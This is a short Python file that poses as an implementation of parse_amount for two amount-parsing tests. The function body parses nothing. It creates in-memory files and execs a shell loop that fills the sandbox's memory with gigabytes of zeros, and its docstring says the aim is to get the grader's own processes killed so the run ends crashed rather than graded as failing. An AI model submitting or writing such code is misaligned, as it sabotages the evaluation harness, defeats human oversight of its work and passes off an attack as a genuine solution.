"""Makes itself small and fills the memory of the jail with files, so that the grader's own processes look the biggest.

Must: crashed, never *not graded*: whatever ends after student code has begun is ended by it.
Tests: test_dots_group_thousands, test_every_other_spelling_of_an_amount_is_refused
"""

import contextlib
import os
from pathlib import Path

SHELL = """
for n in $(seq 1 60); do head -c 33554432 /dev/zero > /proc/self/fd/$((100 + n % 30)) ; done
for n in $(seq 1 40); do head -c 33554432 /dev/zero >> /proc/self/fd/$((100 + n % 30)) ; done
sleep 20
"""


def parse_amount(text: str) -> int:
    with contextlib.suppress(OSError):
        Path("/proc/self/oom_score_adj").write_text("0")
    for number in range(100, 130):
        descriptor = os.memfd_create(str(number))
        os.dup2(descriptor, number)
        os.close(descriptor)
    for descriptor in (200, 201):
        with contextlib.suppress(OSError):
            os.set_inheritable(descriptor, True)
    os.execv("/bin/sh", ["sh", "-c", SHELL])
